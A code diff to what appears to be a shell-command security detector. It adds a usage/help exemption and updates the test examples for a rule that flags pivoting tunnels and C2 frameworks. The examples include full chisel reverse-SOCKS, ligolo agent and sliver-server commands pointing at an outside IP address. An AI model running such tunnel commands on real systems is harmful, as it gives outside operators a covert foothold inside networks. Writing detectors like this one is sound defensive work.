@@ -1,4 +1,4 @@
-import { ruleAnalyzer, perCall, hasArg, operands, type AnalysisInput, type Rule } from '../rule.js';
+import { ruleAnalyzer, perCall, hasArg, operands, printsUsage, type AnalysisInput, type Rule } from '../rule.js';
 import { optionValue } from '../shell/command-args.js';
 import { FETCHERS } from './command_and_control.js';
 import type { SimpleCommand } from '../shell/types.js';
@@ -68,7 +68,7 @@ function toolOfCommand(cmd: SimpleCommand): Hit | undefined {
   }
   const kind = TOOLS[name];
   if (!kind) return undefined;
-  if (rest.length === 0 ? NEEDS_ARGS.has(kind) : rest.every((a) => INFO_FLAGS.has(a) || INFO_FLAGS.has(a.toLowerCase()))) return undefined;
+  if (rest.length === 0 ? NEEDS_ARGS.has(kind) : rest.every((a) => INFO_FLAGS.has(a) || INFO_FLAGS.has(a.toLowerCase())) || printsUsage(cmd)) return undefined;
   // a cracker's benchmark, self-test or listing modes hash built-in samples and crack nothing (`hashcat -b -m 1000`, `john --test`)
   if (kind === 'cracker' && rest.some((a) => CRACKER_SELF_TESTS.has(a) || a.startsWith('--test=') || a.startsWith('--list='))) return undefined;
   return { kind, name };
@@ -321,7 +321,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-HACK-013', name: 'runs-tunnel-or-c2-framework', score: 88, tactic: 'command_and_control', technique: 'T1572', strong: true,
     message: 'Runs a pivoting tunnel or C2 framework (chisel, ligolo, sliver, Empire)', why: 'Reverse SOCKS tunnels and implant servers give an outside operator a foothold inside the network.',
     test: (c) => ofKind('tunnel')(c) ?? (hasArg(c, '-connect') && hasArg(c, '-ignore-cert') ? c.argv.join(' ') : undefined),
-    examples: { fire: ['./chisel server -p 8000 --reverse --socks5', './chisel client 45.33.12.7:8000 R:socks', './agent -connect 45.33.12.7:11601 -ignore-cert', 'sliver-server daemon'], quiet: ['chisel --help', 'ssh -L 5433:localhost:5432 bastion', 'brew info chisel'] },
+    examples: { fire: ['chisel client 45.33.12.7:8000 R:socks --help', './chisel server -p 8000 --reverse --socks5', './chisel client 45.33.12.7:8000 R:socks', './agent -connect 45.33.12.7:11601 -ignore-cert', 'sliver-server daemon'], quiet: ['chisel client --help 2>&1 | head -40', 'chisel --help', 'ssh -L 5433:localhost:5432 bastion', 'brew info chisel'] },
   },
   {
     id: 'PX-HACK-014', name: 'attacks-wireless-networks', score: 88, tactic: 'credential_access', technique: 'T1040', strong: true,
